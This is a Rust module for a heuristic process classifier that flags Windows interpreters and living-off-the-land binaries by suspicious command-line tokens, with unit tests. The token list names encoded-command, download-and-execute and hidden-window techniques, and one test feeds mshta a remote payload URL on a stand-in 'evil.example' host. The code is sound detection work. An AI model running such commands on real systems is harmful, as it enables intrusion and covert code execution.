//! Heuristic process classifier.
//!
//! Pure verdict function over a [`ProcessSnapshot`]: no I/O, no state,
//! deterministic for identical input. Only processes whose name is in the
//! interpreter/LOLbin set are ever examined; benign-override substrings win
//! unconditionally over suspicious tokens.

use crate::models::ProcessSnapshot;

/// Process names that warrant command-line inspection: script hosts,
/// command shells, and registration/transfer utilities commonly abused for
/// living-off-the-land execution. Compared case-insensitively with a
/// trailing `.exe` stripped.
const SUSPICIOUS_NAMES: &[&str] = &[
    "powershell",
    "pwsh",
    "cmd",
    "wscript",
    "cscript",
    "mshta",
    "regsvr32",
    "rundll32",
    "certutil",
    "bitsadmin",
];

/// Known-safe invocation patterns. A command line containing any of these is
/// never flagged, even when a suspicious token is also present.
const BENIGN_OVERRIDES: &[&str] = &[
    "chcp 65001",
    "oh-my-posh",
    "starship init",
    "vsls-agent",
];

/// Command-line fragments that indicate suspicious use of an interpreter:
/// encoded-command flags, remote URL schemes, script-file extensions, and
/// inline-execute flags. The first match, in this order, becomes the
/// verdict's reason.
const SUSPICIOUS_TOKENS: &[&str] = &[
    "-encodedcommand",
    "-enc",
    "http://",
    "https://",
    ".ps1",
    ".vbs",
    ".hta",
    ".jse",
    "iex ",
    "invoke-expression",
    "downloadstring",
    "frombase64string",
    "/c ",
    "-w hidden",
];

/// Classification outcome for one process snapshot.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Verdict {
    /// Nothing suspicious about the process.
    Clear,
    /// The process matched a suspicious token.
    Suspicious {
        /// The command-line token that triggered the verdict.
        token: String,
    },
}

impl Verdict {
    /// Whether this verdict flags the process.
    pub fn is_suspicious(&self) -> bool {
        matches!(self, Verdict::Suspicious { .. })
    }
}

/// Classify one process snapshot.
///
/// An empty command line never matches a token and is therefore never
/// suspicious regardless of the process name.
pub fn classify(snapshot: &ProcessSnapshot) -> Verdict {
    let name = snapshot.name.to_lowercase();
    let name = name.strip_suffix(".exe").unwrap_or(&name);
    if !SUSPICIOUS_NAMES.contains(&name) {
        return Verdict::Clear;
    }

    let command = snapshot.command_string().to_lowercase();

    if BENIGN_OVERRIDES.iter().any(|safe| command.contains(safe)) {
        return Verdict::Clear;
    }

    for token in SUSPICIOUS_TOKENS {
        if command.contains(token) {
            return Verdict::Suspicious {
                token: (*token).to_owned(),
            };
        }
    }

    Verdict::Clear
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_benign_override_beats_suspicious_token() {
        let snap = ProcessSnapshot::new(100, "powershell.exe")
            .with_cmdline(["chcp", "65001", "-enc", "AAA"]);
        assert_eq!(classify(&snap), Verdict::Clear);
    }

    #[test]
    fn test_name_gate_excludes_unlisted_processes() {
        let snap = ProcessSnapshot::new(101, "code.exe").with_cmdline(["--enc", "foo"]);
        assert_eq!(classify(&snap), Verdict::Clear);
    }

    #[test]
    fn test_inline_execute_flag_triggers() {
        let snap = ProcessSnapshot::new(102, "cmd.exe").with_cmdline(["/c", "calc.exe"]);
        match classify(&snap) {
            Verdict::Suspicious { token } => assert_eq!(token, "/c "),
            Verdict::Clear => panic!("expected suspicious verdict"),
        }
    }

    #[test]
    fn test_encoded_command_triggers() {
        let snap = ProcessSnapshot::new(103, "powershell.exe")
            .with_cmdline(["-NoProfile", "-EncodedCommand", "SQBFAFgA"]);
        let verdict = classify(&snap);
        assert!(verdict.is_suspicious());
        match verdict {
            Verdict::Suspicious { token } => assert_eq!(token, "-encodedcommand"),
            Verdict::Clear => unreachable!(),
        }
    }

    #[test]
    fn test_remote_url_triggers() {
        let snap = ProcessSnapshot::new(104, "mshta.exe")
            .with_cmdline(["http://evil.example/payload.hta"]);
        assert!(classify(&snap).is_suspicious());
    }

    #[test]
    fn test_empty_cmdline_is_never_suspicious() {
        let snap = ProcessSnapshot::new(105, "cmd.exe");
        assert_eq!(classify(&snap), Verdict::Clear);
    }

    #[test]
    fn test_gated_name_with_plain_cmdline_is_clear() {
        let snap = ProcessSnapshot::new(106, "cmd.exe").with_cmdline(["cmd.exe"]);
        assert_eq!(classify(&snap), Verdict::Clear);
    }

    #[test]
    fn test_name_matching_is_case_insensitive() {
        let snap = ProcessSnapshot::new(107, "PowerShell.EXE").with_cmdline(["-enc", "AAA"]);
        assert!(classify(&snap).is_suspicious());
    }

    #[test]
    fn test_classification_is_deterministic() {
        let snap = ProcessSnapshot::new(108, "wscript.exe").with_cmdline(["run.vbs"]);
        assert_eq!(classify(&snap), classify(&snap));
    }
}
